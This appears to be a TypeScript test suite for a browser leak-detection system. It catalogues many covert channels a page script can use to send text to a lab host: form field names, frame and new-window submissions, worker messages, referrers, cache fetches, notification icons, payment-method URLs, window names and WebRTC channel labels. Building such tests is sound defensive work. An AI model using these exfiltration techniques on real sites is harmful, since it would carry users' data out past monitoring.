import { type CaseContext, type ChannelCase, testChannels } from '../../support/channel-case.ts';
import { ELSEWHERE, OFFICE, script, scripted } from '../../support/channel-page.ts';
import type { User } from '../../support/user.ts';

const press = (user: User) => user.click('#go');

/** Text that the page's script holds and sends by itself, by ways that few pages take. */
const held = (name: string, send: string, more: Partial<ChannelCase> = {}): ChannelCase => ({
  name,
  page: scripted(`const el = (n) => document.createElement(n); ${send}`),
  drive: press,
  ...more,
});

/** A form `f` that is sent into a frame, whose navigation the page's window does not hear of. */
const intoFrame = (name: string, fill: string, more: Partial<ChannelCase> = {}): ChannelCase =>
  held(
    `${name} of a form that goes into a frame`,
    `const i = el('iframe'), f = el('form'), c = el('input'); i.name = 'an'; f.target = 'an'; f.method = 'post'; f.action = lab.at('in'); c.name = 'm'; document.body.append(i, f); ${fill}; f.submit()`,
    more,
  );

const WORKER = (c: CaseContext) =>
  script(
    `onmessage = (e) => fetch('${c.at('in')}', { method: 'POST', body: e.data.text ?? e.data.message ?? e.data.source ?? e.data })`,
  );

const toWorker = (name: string, message: string): ChannelCase => ({
  name: `${name} sent to a worker`,
  page: (c) => ({
    '': scripted(
      `class Note { constructor(text) { this.text = text } } new Worker(lab.at('tho.js')).postMessage(${message})`,
    ),
    'tho.js': WORKER(c),
  }),
  drive: press,
});

/** The name of a window or frame, told by the page that is shown in it. */
const byName = (name: string, leave: string): ChannelCase => ({
  name: `${name}, read by another site's page`,
  page: (c) => ({
    '': scripted(
      `const el = (n) => document.createElement(n), there = '${c.at('ten', ELSEWHERE)}'; ${leave}`,
    ),
    ten: '<script>lab.send(name)</script>',
  }),
  drive: press,
});

/** A minute of sound that is played. */
const PLAYED = `const wav = new Uint8Array(44 + 480000), v = new DataView(wav.buffer); wav.set(new TextEncoder().encode('RIFF????WAVEfmt ????????????????????data')); v.setUint32(4, 480036, true); v.setUint32(16, 16, true); v.setUint16(20, 1, true); v.setUint16(22, 1, true); v.setUint32(24, 8000, true); v.setUint32(28, 8000, true); v.setUint16(32, 1, true); v.setUint16(34, 8, true); v.setUint32(40, 480000, true); for (let i = 44; i < wav.length; i++) wav[i] = 128 + 60 * Math.sin(i / 3); const a = el('audio'); a.src = URL.createObjectURL(new Blob([wav], { type: 'audio/wav' })); a.loop = true; await a.play()`;

/** A peer's description of itself, once it has found its own addresses. */
const OFFERED = `async function offered(p) { await p.setLocalDescription(); while (p.iceGatheringState !== 'complete') await new Promise((d) => setTimeout(d, 20)); return p.localDescription.toJSON() }`;

testChannels('byways', import.meta.filename, [
  intoFrame('a ticked box', `c.type = 'checkbox'; c.checked = true; c.value = text; f.append(c)`),
  intoFrame('a chosen radio button', `c.type = 'radio'; c.checked = true; c.value = text; f.append(c)`),
  intoFrame(
    'the value of an option',
    `const s = el('select'), o = el('option'); s.name = 'm'; o.value = text; o.text = 'x'; s.append(o); f.append(s)`,
  ),
  intoFrame(
    'the second of two chosen options',
    `const s = el('select'); s.name = 'm'; s.multiple = true; for (const t of ['a', text]) { const o = el('option'); o.text = t; s.append(o); o.selected = true; } f.append(s)`,
  ),
  intoFrame(
    'an element of its own',
    `customElements.define('x-y', class extends HTMLElement { static formAssociated = true; i = this.attachInternals(); set v(t) { this.i.setFormValue(t) } }); const x = el('x-y'); x.setAttribute('name', 'm'); f.append(x); x.v = text`,
  ),
  intoFrame('the name of a field', `c.name = text; c.value = 'x'; f.append(c)`),
  intoFrame(
    'the name of a chosen field among others',
    `const s = el('select'), o = el('option'); s.name = lab.line; o.text = 'x'; s.append(o); f.append(c, s)`,
  ),
  held(
    'the name of a field of a form that the page itself sends',
    `const f = el('form'), c = el('input'), b = el('button'); f.method = 'post'; f.action = lab.at('in'); c.name = text; c.value = 'x'; f.append(c, b); document.body.append(f); f.requestSubmit()`,
  ),
  intoFrame('a field called after a level', `c.name = 'TOI_MAT'; c.value = text; f.append(c)`, {
    cleanOnly: true,
  }),
  held(
    'form data with a key called after a level',
    `const f = new FormData(); f.append('TUYET_MAT', text); lab.send(f)`,
    { cleanOnly: true },
  ),
  held('a key of form data', `const f = new FormData(); f.append(text, 'x'); lab.send(f)`),
  held(
    'the value of a button that sends a form into a frame',
    `const i = el('iframe'), f = el('form'), b = el('button'); i.name = 'an'; f.target = 'an'; f.method = 'post'; f.action = lab.at('in'); b.name = 'm'; b.value = text; f.append(b); document.body.append(i, f); b.click()`,
    { host: OFFICE },
  ),
  held(
    'the address of a form that goes into a new window',
    `const f = el('form'); f.action = lab.at('in') + '?d=' + encodeURIComponent(text); f.method = 'post'; f.target = '_blank'; document.body.append(f); f.submit()`,
  ),
  held(
    'the address of a button that sends a form into a new window',
    `const f = el('form'), b = el('button'); b.formAction = lab.at('in') + '?d=' + encodeURIComponent(text); b.formMethod = 'post'; b.formTarget = '_blank'; f.append(b); document.body.append(f); b.click()`,
  ),
  held(
    'a link that opens where the base of the page says',
    `const b = el('base'), a = el('a'); b.target = '_blank'; document.head.append(b); a.href = lab.at('di') + '?d=' + encodeURIComponent(text); document.body.append(a); a.click()`,
  ),
  held(
    'a link outside the page that is clicked by an event',
    `const a = el('a'); a.href = lab.at('di') + '?d=' + encodeURIComponent(text); a.target = '_blank'; a.dispatchEvent(new MouseEvent('click', { cancelable: true }))`,
  ),
  byName('the name of the window', 'name = text; location = there'),
  byName('the name of a new window', 'window.open(there, text)'),
  byName(
    'the name of a frame',
    `const f = el('iframe'); f.name = text; f.src = there; document.body.append(f)`,
  ),
  toWorker('an instance of a class', 'new Note(text)'),
  toWorker('an error', 'new Error(text)'),
  toWorker('a string as an object', 'Object(text)'),
  toWorker('a pattern', 'new RegExp(lab.line)'),
  held(
    'the headers of a Request',
    `fetch(new Request(lab.at('in'), { headers: { 'x-tin': encodeURIComponent(text) } }))`,
  ),
  held(
    'the referrer that a fetch names',
    `lab.send('x', 'in', { referrer: '/?d=' + encodeURIComponent(text), referrerPolicy: 'unsafe-url' })`,
  ),
  held(
    'an address that a cache fetches',
    `await (await caches.open('x')).add(lab.at('in') + '?d=' + encodeURIComponent(text))`,
  ),
  held(
    'addresses that a cache fetches',
    `await (await caches.open('x')).addAll([new Request(lab.at('in') + '?d=' + encodeURIComponent(text))])`,
  ),
  held(
    'the name of a Blob in form data',
    `const f = new FormData(); f.append('t', new Blob(['x']), text); lab.send(f)`,
  ),
  held(
    'the name of a File in form data',
    `const f = new FormData(); f.append('t', new File(['x'], text)); lab.send(f)`,
  ),
  held(
    'the icon of a notification',
    `new Notification('x', { icon: lab.at('anh') + '?d=' + encodeURIComponent(text) })`,
  ),
  held(
    'the badge of a notification',
    `new Notification('x', { badge: lab.at('anh') + '?d=' + encodeURIComponent(text) })`,
  ),
  held(
    'the image of a notification',
    `new Notification('x', { image: lab.at('anh') + '?d=' + encodeURIComponent(text) })`,
  ),
  {
    name: 'the icon of a notification that a service worker shows',
    page: () => ({
      '': scripted(
        `const r = await navigator.serviceWorker.register('tho.js'); while (!r.active) await new Promise((d) => setTimeout(d, 20)); r.showNotification('x', { icon: lab.at('anh') + '?d=' + encodeURIComponent(text) })`,
      ),
      'tho.js': script(''),
    }),
    drive: press,
  },
  held(
    'the picture of what plays',
    `${PLAYED}; navigator.mediaSession.metadata = new MediaMetadata({ artwork: [{ src: lab.at('anh') + '?d=' + encodeURIComponent(text), sizes: '96x96', type: 'image/png' }] })`,
  ),
  held(
    'a picture that what plays is given later',
    `${PLAYED}; const m = navigator.mediaSession.metadata = new MediaMetadata({}); m.artwork = [{ src: lab.at('anh') + '?d=' + encodeURIComponent(text), sizes: '96x96', type: 'image/png' }]`,
  ),
  held(
    'the method of a payment',
    `new PaymentRequest([{ supportedMethods: lab.at('tra') + '?d=' + encodeURIComponent(text) }], { total: { label: 'x', amount: { currency: 'VND', value: '1' } } }).canMakePayment()`,
  ),
  held(
    'the method of a payment that is shown',
    `new PaymentRequest([{ supportedMethods: lab.at('tra') + '?d=' + encodeURIComponent(text) }], { total: { label: 'x', amount: { currency: 'VND', value: '1' } } }).show().catch(() => {})`,
  ),
  held(
    'the module of an audio worklet',
    `new AudioContext().audioWorklet.addModule(lab.at('in') + '?d=' + encodeURIComponent(text)).catch(() => {})`,
  ),
  {
    name: 'the label of a channel between peers',
    page: (c) => ({
      '': scripted(
        `const w = window.open('${c.at('ten', ELSEWHERE)}'), p = new RTCPeerConnection(); onmessage = async ({ data }) => { if (data !== 'ready') return p.setRemoteDescription(data); p.createDataChannel(lab.line); w.postMessage(await offered(p), '*') }; ${OFFERED}`,
      ),
      ten: `<script>${OFFERED} const p = new RTCPeerConnection(); p.ondatachannel = (e) => lab.send(e.channel.label); onmessage = async ({ data }) => { await p.setRemoteDescription(data); opener.postMessage(await offered(p), '*') }; opener.postMessage('ready', '*')</script>`,
    }),
    drive: press,
  },
]);
